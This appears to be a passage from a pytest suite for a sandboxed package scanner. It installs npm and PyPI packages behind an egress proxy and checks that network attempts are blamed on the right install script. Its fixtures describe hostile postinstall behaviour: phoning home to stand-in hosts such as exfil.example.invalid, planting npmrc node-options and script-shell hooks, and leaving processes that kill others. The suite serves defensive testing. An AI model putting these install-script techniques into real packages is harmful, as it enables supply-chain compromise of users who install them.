        for attempts in (proxy.attempts(), proxy.attempts(windows)):
            hosts = {a.host for a in attempts}
            assert not {h for h in hosts if "framed" in h or "guessed" in h}, attempts
            assert not [a for a in attempts if a.allowed and a.via == "proxy"], attempts  # no fake tunnel
            # dnsmasq's `<name unprintable>` and a name with a space are recorded, escaped (fix for names the old
            # `\S+` pattern skipped).
            dns = {a.host for a in attempts if a.via == "dns"}
            assert {"<name\\x20unprintable>", "two\\x20words.example.invalid"} <= dns, dns
        # The same forged text parsed as if it had reached either stream still yields nothing.
        marker = proxy.log_marker
        assert proxy_log.parse_attempts(forged, ["registry.npmjs.org"], marker=marker) == []
        assert {a.host for a in proxy_log.parse_attempts("", ["registry.npmjs.org"], marker=marker, dns_log=forged)} == {
            "framed-dns.example.invalid"}  # a dnsmasq line counts only on stderr, where only dnsmasq writes
        assert len(marker) == 32 and marker not in json.dumps(results)


@pytest.mark.docker
def test_teardown_removes_an_untracked_labelled_network_and_its_containers(docker_client, no_leftovers):
    with SandboxSession(docker_client) as session:
        name = f"mcp-sandbox-{session.id[:12]}-stray"
        docker_client.api.create_network(name, internal=True, labels=session.labels("stray"))
        container = docker_client.api.create_container(
            "debian:trixie-slim", command=["true"], labels=session.labels("stray"),
            host_config=docker_client.api.create_host_config(network_mode=name))
        assert container["Id"]
    assert session.teardown_result.complete, session.teardown_result
    assert name in session.teardown_result.removed
    assert _session_networks(docker_client, session.id) == []


SCRIPT_TREE = REPO / "tests" / "servers" / "npm-script-tree"
GUILTY_PACKAGE = "mcp-zoo-guilty@0.1.0"


@pytest.fixture
def script_tree(tmp_path):
    """A .tgz of two packages with postinstall scripts: mcp-zoo-script-tree (harmless) bundling mcp-zoo-guilty
    (phones home, and leaves a process behind that would phone home again during the next package's step)."""
    path = tmp_path / "script-tree.tgz"
    with tarfile.open(path, "w:gz") as tar:
        tar.add(SCRIPT_TREE / "root", arcname="package")
        tar.add(SCRIPT_TREE / "guilty", arcname="package/node_modules/mcp-zoo-guilty")
    return path


def _install_tree(client, tgz, *, ignore_scripts, progress=lambda _step: None):
    runtime = images.ensure_runtime_image(client, "node")
    request = install.InstallRequest(
        "npm", f"/opt/src/{tgz.name}", "mcp-zoo-script-tree", f"test:{uuid.uuid4()}", local_path=tgz,
        ignore_scripts=ignore_scripts, ca_bundle=images.DEFAULT_CA_BUNDLE if images.DEFAULT_CA_BUNDLE.is_file() else None)
    with SandboxSession(client) as session:
        installed = install.install(session, request, runtime.tag, runtime.image_id, use_cache=False,
                                    progress=progress)
    assert session.teardown_result is not None and session.teardown_result.complete
    return installed


@pytest.mark.docker
def test_install_egress_names_the_guilty_package_and_script_only(docker_client, script_tree, no_leftovers):
    shown: list[str] = []
    installed = _install_tree(docker_client, script_tree, ignore_scripts=False, progress=shown.append)
    try:
        # The user saw each step as it began: the fetch, then each package's scripts, dependencies first, then the
        # commit.
        spec = f"installing /opt/src/{script_tree.name}: "
        assert [line.removeprefix(spec) for line in shown] == [
            "starting the install proxy and container", install_phases.NPM_FETCH, f"postinstall of {GUILTY_PACKAGE}",
            "postinstall of mcp-zoo-script-tree@0.1.0", "saving the installed server as an image (docker commit)"]
        refused = proxy_log.denied(installed.egress)
        assert {(a.host, a.via) for a in refused} == {("exfil.example.invalid", "proxy"),
                                                      ("guilty.example.invalid", "dns")}
        assert {(a.package, a.script) for a in refused} == {(GUILTY_PACKAGE, "postinstall")}
        # The process the guilty script left behind was ended before the innocent package's step: never blamed on it.
        assert not any(a.package == "mcp-zoo-script-tree@0.1.0" for a in installed.egress)
        assert "late.example.invalid" not in {a.host for a in installed.egress}
        # Both scripts ran (the harmless one wrote its marker), and the attribution survives the image cache.
        # The lookup creates no container: the manifest is read later, beside the run, and is the install's.
        with SandboxSession(docker_client) as session:
            cached = install.cached_install(session, installed.image, installed.runtime_image)
            assert labelled_containers(docker_client, session.id) == []
            assert cached is not None and cached.manifest is None and cached.phases == {}  # nothing was installed
            assert install.installed_manifest(session, cached, "npm") == installed.manifest
        assert cached.egress == installed.egress
        bundled = installed.manifest["packages"]["node_modules/mcp-zoo-script-tree/node_modules/mcp-zoo-guilty"]
        assert bundled["inBundle"] is True
        assert image_file(docker_client, installed.image,
                          "/opt/server/node_modules/mcp-zoo-script-tree/postinstall-ran") == b"harmless"
        # What the report's I7 finding says.
        finding = egress_finding(ProvenanceEgress(host="exfil.example.invalid:443", allowed=False,
                                                  package=refused[0].package, script=refused[0].script))
        assert finding is not None and finding.message == (
            f"install script postinstall of {GUILTY_PACKAGE} tried to reach exfil.example.invalid:443 (refused)")
    finally:
        docker_client.images.remove(installed.image, force=True)


@pytest.mark.docker
def test_ignore_scripts_runs_no_script_step(docker_client, script_tree, no_leftovers):
    installed = _install_tree(docker_client, script_tree, ignore_scripts=True)
    try:
        # Where the install's time went: every phase timed, together all of it but the glue between them.
        assert set(installed.phases) == set(INSTALL_PHASES) and all(s > 0 for s in installed.phases.values())
        assert installed.seconds - 0.5 < sum(installed.phases.values()) <= installed.seconds + 0.01  # rounding
        assert proxy_log.denied(installed.egress) == []
        assert all(a.package is None for a in installed.egress)
        # the package is installed (its package.json is there), but its postinstall never ran
        folder = "/opt/server/node_modules/mcp-zoo-script-tree"
        assert b"mcp-zoo-script-tree" in (image_file(docker_client, installed.image, f"{folder}/package.json") or b"")
        assert image_file(docker_client, installed.image, f"{folder}/postinstall-ran") is None
    finally:
        docker_client.images.remove(installed.image, force=True)


@pytest.mark.docker
def test_a_failing_install_script_stops_the_install_with_one_line_naming_it(docker_client, tmp_path, no_leftovers):
    package = tmp_path / "failing"
    package.mkdir()
    (package / "package.json").write_text(json.dumps({
        "name": "mcp-zoo-failing", "version": "0.1.0",
        "scripts": {"postinstall": "node -e \"require('dns').lookup('fail.example.invalid', () => process.exit(3))\""}}))
    runtime = images.ensure_runtime_image(docker_client, "node")
    request = install.InstallRequest("npm", "/opt/src/pkg", "mcp-zoo-failing", f"test:{uuid.uuid4()}",
                                     local_path=package)
    with SandboxSession(docker_client) as session:
        with pytest.raises(SandboxError) as raised:
            install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
    message = str(raised.value)
    assert "\n" not in message
    assert message.startswith("installing /opt/src/pkg failed (exit 3) in the postinstall script of "
                              "mcp-zoo-failing@0.1.0: ")
    assert message.endswith("; during the install it tried to reach fail.example.invalid "
                            "(postinstall of mcp-zoo-failing@0.1.0) (refused)")
    assert session.teardown_result is not None and session.teardown_result.complete


@pytest.mark.docker
@pytest.mark.registry
def test_a_pypi_sdist_is_built_in_its_own_step(docker_client, no_leftovers):
    """docopt 0.6.2 exists only as an sdist: its build backend runs alone, so what it tries is charged to it."""
    runtime = images.ensure_runtime_image(docker_client, "python")
    request = install.InstallRequest(
        "pypi", "docopt==0.6.2", "docopt", f"test:{uuid.uuid4()}",
        ca_bundle=images.DEFAULT_CA_BUNDLE if images.DEFAULT_CA_BUNDLE.is_file() else None)
    with SandboxSession(docker_client) as session:
        installed = install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
    try:
        assert "> build backend of docopt@0.6.2" in installed.installer_output
        assert "Built docopt==0.6.2" in installed.installer_output
        assert installed.egress and all(a.allowed for a in installed.egress)
        for attempt in installed.egress:  # every step named: resolving (docopt's backend may run), building, wheels
            assert (attempt.package, attempt.script) in {
                (None, "uv pip compile (resolving the tree); build backends may run for metadata: docopt@0.6.2"),
                ("docopt@0.6.2", "build backend"),
                (None, "uv pip install (wheels only, nothing built; installed .pth files may run)")}, attempt
        assert installed.manifest["requirements"].startswith("docopt==0.6.2")
        # Its sdist has a setup.py (seen unpacked in uv's cache during its build step): setuptools ran it.
        assert installed.built == [BuiltFromSource(package="docopt@0.6.2", setup_py=True)]
    finally:
        docker_client.images.remove(installed.image, force=True)


KILLED_SCANNER = """
import sys, time
from sandbox.core import engine
from sandbox.core.session import SandboxSession
from sandbox.install.proxy import container as install_egress
session = SandboxSession(engine.connect())
proxy = install_egress.start_install_proxy(session, ["registry.npmjs.org"])
print(session.id, proxy.container_id, proxy.network, flush=True)
time.sleep(600)
"""


@pytest.mark.docker
def test_gc_removes_a_killed_scanners_proxy_and_network(docker_client, no_leftovers):
    """A scanner killed with SIGKILL leaves the proxy and its network behind: gc removes both, containers first."""
    child = subprocess.Popen([sys.executable, "-c", KILLED_SCANNER], stdout=subprocess.PIPE, text=True, cwd=REPO)
    try:
        session_id, container_id, network = child.stdout.readline().split()
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert labelled_containers(docker_client, session_id) and _session_networks(docker_client, session_id)
    result = gc.sweep(docker_client)
    assert container_id[:12] in result.containers and network in result.networks
    assert labelled_containers(docker_client, session_id) == []
    assert _session_networks(docker_client, session_id) == []


# ------------------------------------------------------------------------- one package forging another's blame

FORGED_TREE = REPO / "tests" / "servers" / "npm-forged-blame"
FORGER = "mcp-zoo-forger@0.1.0"
INNOCENT_PACKAGE = "mcp-zoo-innocent@0.1.0"


def _pack(tmp_path, name, root, dependency, dependency_name):
    """A .tgz of `root` (a folder, or a package.json as a dict) with `dependency` bundled as node_modules/NAME."""
    path = tmp_path / f"{name}.tgz"
    with tarfile.open(path, "w:gz") as tar:
        if isinstance(root, dict):
            manifest = tmp_path / f"{name}-package.json"
            manifest.write_text(json.dumps(root))
            tar.add(manifest, arcname="package/package.json")
        else:
            tar.add(root, arcname="package")
        tar.add(dependency, arcname=f"package/node_modules/{dependency_name}")
    return path


@pytest.mark.docker
def test_a_package_cannot_get_its_attempts_blamed_on_a_later_one(docker_client, tmp_path, no_leftovers):
    """mcp-zoo-forger's postinstall leaves a process that keeps phoning home and writes npmrc files that would run its
    code (node-options, script-shell) inside mcp-zoo-innocent's later step: nothing is ever charged to the innocent
    package; what the forger tried is charged to it (or names no package at all)."""
    tree = _pack(tmp_path, "forged", FORGED_TREE / "innocent", FORGED_TREE / "forger", "mcp-zoo-forger")
    runtime = images.ensure_runtime_image(docker_client, "node")
    request = install.InstallRequest(
        "npm", f"/opt/src/{tree.name}", "mcp-zoo-innocent", f"test:{uuid.uuid4()}", local_path=tree,
        ca_bundle=images.DEFAULT_CA_BUNDLE if images.DEFAULT_CA_BUNDLE.is_file() else None)
    with SandboxSession(docker_client) as session:
        installed = install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
    try:
        refused = proxy_log.denied(installed.egress)
        assert not any(a.package == INNOCENT_PACKAGE for a in installed.egress), installed.egress
        for attempt in refused:
            assert attempt.package in (FORGER, None), attempt
            if attempt.package is None:
                assert attempt.script and attempt.script.startswith("unattributed"), attempt
        hosts = {a.host for a in refused}
        assert ("forger.example.invalid", FORGER, "postinstall") in {(a.host, a.package, a.script) for a in refused}
        # The planted npmrc files never took effect: their hook and shell never ran in a later step.
        assert not hosts & {"hooked.example.invalid", "shell.example.invalid"}, refused
        assert hosts <= {"forger.example.invalid", "lingering.example.invalid"}
        # The innocent package's own script did run (with the image's shell, not the planted one), and the planted
        # project npmrc is not part of the installed image.
        assert image_file(docker_client, installed.image,
                          "/opt/server/node_modules/mcp-zoo-innocent/postinstall-ran") == b"innocent"
        assert image_file(docker_client, installed.image, "/opt/server/.npmrc") is None
    finally:
        docker_client.images.remove(installed.image, force=True)


def _refused_install(docker_client, tmp_path, name, root):  # type: ignore[no-untyped-def]
    """Install `root` with the forged tree's NAME bundled as mcp-zoo-NAME: the tarball, the install's one-line
    refusal and its session (torn down)."""
    tree = _pack(tmp_path, name, root, FORGED_TREE / name, f"mcp-zoo-{name}")
    runtime = images.ensure_runtime_image(docker_client, "node")
    request = install.InstallRequest("npm", f"/opt/src/{tree.name}", root["name"], f"test:{uuid.uuid4()}",
                                     local_path=tree)
    with SandboxSession(docker_client) as session:
        with pytest.raises(SandboxError) as raised:
            install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
    return tree, str(raised.value), session


@pytest.mark.docker
def test_a_process_that_outlives_every_kill_stops_the_install(docker_client, tmp_path, no_leftovers):
    """mcp-zoo-holdout's postinstall leaves a process that, once the step is over, ends every new process of the
    install user as soon as it appears, the host's `kill -KILL -1` included. The host sees it in the engine's process
    list, kills again a few times, then stops the install with one line naming the holdout: the root package's step
    never runs beside it (and is never blamed for it)."""
    root = {"name": "mcp-zoo-holdout-root", "version": "0.1.0", "license": "MIT",
            "dependencies": {"mcp-zoo-holdout": "0.1.0"}, "bundleDependencies": ["mcp-zoo-holdout"],
            "scripts": {"postinstall": "node -e \"require('dns').lookup('root.example.invalid', () => {})\""}}
    tree, message, session = _refused_install(docker_client, tmp_path, "holdout", root)
    assert "\n" not in message
    assert message.startswith(f"installing /opt/src/{tree.name} stopped after the postinstall of "
                              "mcp-zoo-holdout@0.1.0: 1 process it left was still running after 6 attempts to end "
                              "it (it would have run on into the next step and been blamed on it)"), message
    assert "root.example.invalid" not in message  # the root package's step never ran
    assert "holdout.example.invalid (postinstall of mcp-zoo-holdout@0.1.0)" in message
    assert session.teardown_result is not None and session.teardown_result.complete



@pytest.mark.docker
def test_a_process_that_kills_the_disk_look_during_its_step_is_named_not_the_disk(docker_client, tmp_path,
                                                                                  no_leftovers):
    """mcp-zoo-statkiller's postinstall ends every new process of the install user while its own step runs on for
    four seconds, and lives on after it. Before: the host's look at the free disk space during the step ran as the
    install user, was killed, and the install stopped with "cannot read the install container's free disk space".
    The look runs as the idle processes' user, which the install cannot signal: the install stops for the process it
    left, named."""
    root = {"name": "mcp-zoo-statkiller-root", "version": "0.1.0", "license": "MIT",
            "dependencies": {"mcp-zoo-statkiller": "0.1.0"}, "bundleDependencies": ["mcp-zoo-statkiller"]}
    tree, message, session = _refused_install(docker_client, tmp_path, "statkiller", root)
    assert message.startswith(f"installing /opt/src/{tree.name} stopped after the postinstall of "
                              "mcp-zoo-statkiller@0.1.0: 1 process it left was still running after 6 attempts"), message
    assert "disk" not in message
    assert session.teardown_result is not None and session.teardown_result.complete


PHONE_HOME_SERVER = REPO / "tests" / "servers" / "npm-phone-home"


@pytest.mark.docker
def test_a_cached_rescan_reports_the_attempts_the_first_scan_did(tmp_path, docker_client, no_leftovers):
    """The attempts are read once, after the install ended and the proxy logged everything it did; the
    image keeps that list, so the first scan and a cached re-scan report the same attempts and I7 findings."""
    server = tmp_path / "npm-phone-home"
    shutil.copytree(PHONE_HOME_SERVER, server)
    (server / "test-run").write_text(str(uuid.uuid4()))  # a content hash no earlier scan has an image for
    reports = []
    for name in ("first", "again"):
        out = tmp_path / f"{name}.json"
        result = run_cli("scan", str(server), "--no-probes", "--quiet", "--json", str(out))
        assert result.returncode == 1, result.stderr
        reports.append(json.loads(out.read_text()))
    first, again = reports
    try:
        assert first["install"]["cached"] is False and again["install"]["cached"] is True
        assert again["install"]["image_id"] == first["install"]["image_id"]
        assert first["install"]["attribution_note"] is None and again["install"]["attribution_note"] is None
        assert again["provenance"]["egress"] == first["provenance"]["egress"]
        assert [e for e in first["provenance"]["egress"] if not e["allowed"]] == [
            {"host": PHONE_HOME, "allowed": False, "package": "mcp-zoo-phone-home@0.1.0", "script": "postinstall"}]
        i7 = [[f["message"] for f in report["findings"] if f["rule_id"] == "I7"] for report in reports]
        assert i7[0] == i7[1] == [f"install script postinstall of mcp-zoo-phone-home@0.1.0 tried to reach {PHONE_HOME} "
                                  "(refused)"]
    finally:
        docker_client.images.remove(first["install"]["image"], force=True)
